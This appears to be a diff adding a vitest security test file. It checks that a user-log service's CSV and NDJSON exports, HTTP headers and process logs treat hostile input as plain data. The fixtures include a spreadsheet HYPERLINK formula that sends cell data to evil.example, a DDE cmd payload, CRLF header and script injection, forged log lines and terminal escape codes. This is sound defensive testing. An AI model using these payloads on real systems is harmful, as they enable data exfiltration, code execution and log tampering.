@@ -1,0 +1,98 @@
+import { get } from 'node:http';
+import { pino } from 'pino';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import type { Client } from '../kit/client.ts';
+import { newUser } from '../kit/people.ts';
+import { type Service, startService } from '../kit/service.ts';
+
+let service: Service;
+let keeper: Client;
+
+beforeAll(async () => {
+  service = await startService();
+  keeper = await service.holding('user_log:read', 'user_log:export');
+});
+afterAll(() => service.stop());
+
+const hostile = [
+  '=HYPERLINK("http://evil.example/?"&A1,"x")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1+1)',
+  '＝1+1',
+  'x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>',
+  'x\n1,"2026-01-01","signIn",1,"admin"',
+  '\u001b[2J\u001b[31mred\u0007\u009b31m',
+  '","=1+1","',
+  '{"level":60,"msg":"forged"}',
+];
+
+/** Records of a csv file, each with its fields; quotes doubled within quotes. */
+const recordsOf = (csv: string) =>
+  csv
+    .trimEnd()
+    .split('\n')
+    .map((record) =>
+      [...record.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(
+        ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain,
+      ),
+    );
+
+const asFile = async (format: string, user: string) =>
+  (await keeper.raw('GET', `/dc/api/v1/user-logs/export?${new URLSearchParams({ format, user })}`)).text();
+
+describe.each(hostile)('%j', (text) => {
+  test('typed as a user name is data in the list and the files', async () => {
+    const body = { username: text, password: 'wrong password' };
+    await service.anybody.refused('login', { body }, 'invalidCredentials');
+    const { items } = await keeper.ok('listUserLogs', { query: { user: text } });
+    expect(items).toMatchObject([{ act: 'signInFailed', username: text }]);
+    const [line, ...others] = (await asFile('ndjson', text)).trimEnd().split('\n');
+    expect(others).toEqual([]);
+    expect(JSON.parse(String(line))).toEqual(items[0]);
+    const csv = await asFile('csv', text);
+    // neither a terminal nor a spreadsheet is told anything by it
+    expect(csv.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
+    const [, record, ...more] = recordsOf(csv);
+    expect(more).toEqual([]);
+    expect(record).toHaveLength(11);
+    for (const field of record ?? []) expect(field).not.toMatch(/^[=+\-@＝＋－＠]/);
+  });
+
+  test('as a user agent and in an account’s name is data too', async () => {
+    const client = text.replaceAll(/[^\t\x20-\x7e]/g, '?');
+    const { username } = await newUser(service.db, [], { display_name: text });
+    const body = { username, password: 'wrong password' };
+    await service.anybody.call('login', { body, headers: { 'User-Agent': client } });
+    const { items } = await keeper.ok('listUserLogs', { query: { user: username } });
+    expect(items).toMatchObject([{ client: client.trim() }]);
+    const [, record] = recordsOf(await asFile('csv', username));
+    expect(record?.at(-1)).not.toMatch(/^[=+\-@]/);
+  });
+
+  test('in a filter breaks no header', async () => {
+    const response = await keeper.raw('GET', `/dc/api/v1/user-logs/export?format=csv&user=${encodeURIComponent(text)}`);
+    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="user-log.csv"');
+    expect(response.headers.get('Set-Cookie')).toBeNull();
+    await response.text();
+  });
+});
+
+test('the process’s own log stays one line of JSON an event', async () => {
+  const lines: string[] = [];
+  const log = pino({}, { write: (line: string) => void lines.push(line) });
+  for (const text of hostile) log.warn({ path: text, err: new Error(text) }, text);
+  expect(lines).toHaveLength(hostile.length);
+  for (const line of lines) {
+    expect(line.trimEnd().split(/[\r\n]/)).toHaveLength(1);
+    expect(JSON.parse(line)).toMatchObject({ level: 40 });
+  }
+});
+
+test('a path with line breaks is one request in that log', async () => {
+  const seen = service.logged.length;
+  await new Promise((resolve) =>
+    get(`${service.url}/dc/x%0d%0a{"msg":"forged"}%1b[2J`, (answer) => answer.resume().on('end', resolve)),
+  );
+  expect(service.logged.slice(seen)).toMatchObject([{ msg: 'request', status: 404 }]);
+});
